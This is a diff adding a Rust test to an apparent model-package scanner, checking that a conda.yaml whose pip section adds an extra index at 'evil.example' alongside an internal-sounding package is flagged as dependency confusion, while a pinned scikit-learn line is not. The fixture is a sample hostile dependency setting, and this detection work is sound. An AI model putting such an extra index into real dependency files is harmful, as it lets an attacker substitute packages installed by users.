@@ -756,3 +756,20 @@ fn r11_files_of_the_cache_are_those_that_their_names_promise() {
     assert_eq!(told(id, text), Vec::<String>::new());
     assert_eq!(told(id, "{\"model_type\": \"y\"}"), ["hub-digest-mismatch high"]);
 }
+
+#[test]
+fn r04_what_conda_has_pip_install_is_judged_like_requirements() {
+    let conda = |pip: &str| format!("name: m\ndependencies:\n- python=3.10\n- pip:\n{pip}");
+    let mlmodel = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n";
+    for (pip, expected) in [
+        ("  - scikit-learn==1.5.0\n", false),
+        (
+            "  - --extra-index-url https://evil.example/simple\n  - acme-internal-kit==1.0\n",
+            true,
+        ),
+    ] {
+        let told = told(&[("MLmodel", mlmodel), ("conda.yaml", conda(pip).as_str())]);
+        let found = told.iter().any(|t| t.starts_with("extra-index-confusion"));
+        assert_eq!(found, expected, "{pip} {told:?}");
+    }
+}
